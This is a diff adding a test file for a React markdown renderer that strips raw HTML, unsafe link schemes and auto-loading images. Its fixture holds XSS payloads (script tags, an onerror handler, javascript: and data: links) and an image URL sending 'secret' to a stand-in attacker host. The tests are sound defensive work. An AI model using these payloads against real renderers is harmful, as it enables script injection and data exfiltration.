@@ -1,0 +1,90 @@
+import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { SafeMarkdown } from './safe-markdown';
+
+afterEach(cleanup);
+
+const hostile = [
+  'Hello <script>alert(1)</script> there.',
+  '',
+  '<img src=x onerror="alert(2)">',
+  '',
+  '[click me](javascript:alert(1)) and [data](data:text/html;base64,PHNjcmlwdD4=) and [inside](/admin/users)',
+  '',
+  '![](https://evil.example/?q=secret)',
+  '',
+  '[the docs](https://example.com/docs) or [mail us](mailto:help@example.com)',
+].join('\n');
+
+describe('SafeMarkdown', () => {
+  it('shows raw HTML as text, never as elements', () => {
+    const { container } = render(<SafeMarkdown text={hostile} />);
+    expect(container.querySelector('script')).toBeNull();
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelector('[onerror]')).toBeNull();
+    expect(container.textContent).toContain('<script>alert(1)</script>');
+    expect(container.textContent).toContain('<img src=x onerror="alert(2)">');
+  });
+
+  it('drops javascript:, data: and relative links but keeps their text', () => {
+    const { container } = render(<SafeMarkdown text={hostile} />);
+    const hrefs = [...container.querySelectorAll('a')].map((link) => link.getAttribute('href'));
+    expect(hrefs).toEqual(['https://example.com/docs', 'mailto:help@example.com']);
+    expect(container.innerHTML).not.toMatch(/javascript:|data:text/i);
+    expect(screen.getByText('click me').tagName).toBe('SPAN');
+    expect(screen.getByText('inside').closest('a')).toBeNull();
+  });
+
+  it('opens links in a new tab without telling the target where they came from', () => {
+    render(<SafeMarkdown text={hostile} />);
+    const link = screen.getByRole('link', { name: 'the docs' });
+    expect(link.getAttribute('target')).toBe('_blank');
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(screen.getByRole('link', { name: 'mail us' }).getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('loads an image only when the person clicks its placeholder, which names the host', () => {
+    const { container } = render(<SafeMarkdown text={hostile} />);
+    expect(container.querySelector('img')).toBeNull();
+    const placeholder = screen.getByRole('button', { name: /Load image .* from evil\.example/ });
+
+    fireEvent.click(placeholder);
+
+    const image = container.querySelector('img');
+    expect(image?.getAttribute('src')).toBe('https://evil.example/?q=secret');
+    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
+  });
+
+  it('does not load an image again by itself when the reply re-renders with more text', () => {
+    const { container, rerender } = render(<SafeMarkdown text="![cat](https://img.example/cat.png)" />);
+    rerender(<SafeMarkdown text={'![cat](https://img.example/cat.png)\n\nmore text'} />);
+    expect(container.querySelector('img')).toBeNull();
+    expect(screen.getByRole('button', { name: /Load image “cat” from img\.example/ })).toBeTruthy();
+  });
+
+  it('never offers to load an image from a non-web address', () => {
+    const { container } = render(<SafeMarkdown text="![tracker](javascript:alert(1))" />);
+    expect(container.querySelector('img')).toBeNull();
+    expect(screen.queryByRole('button')).toBeNull();
+    expect(container.textContent).toContain('tracker (image not shown)');
+  });
+
+  it('highlights a fenced code block and copies its text with the Copy button', async () => {
+    const writeText = vi.fn(() => Promise.resolve());
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
+    const { container } = render(<SafeMarkdown text={'```js\nconst answer = 42;\nreturn answer;\n```'} />);
+
+    expect(container.querySelector('pre code .hljs-keyword')?.textContent).toBe('const');
+    expect(container.querySelector('.code-toolbar')?.textContent).toContain('js');
+    fireEvent.click(screen.getByRole('button', { name: 'Copy' }));
+
+    await waitFor(() => expect(writeText).toHaveBeenCalledWith('const answer = 42;\nreturn answer;'));
+    expect(await screen.findByRole('button', { name: 'Copied' })).toBeTruthy();
+  });
+
+  it('renders GitHub-flavoured tables and task lists', () => {
+    const { container } = render(<SafeMarkdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done'} />);
+    expect(container.querySelectorAll('table td')).toHaveLength(2);
+    expect(container.querySelector('input[type="checkbox"]')).not.toBeNull();
+  });
+});
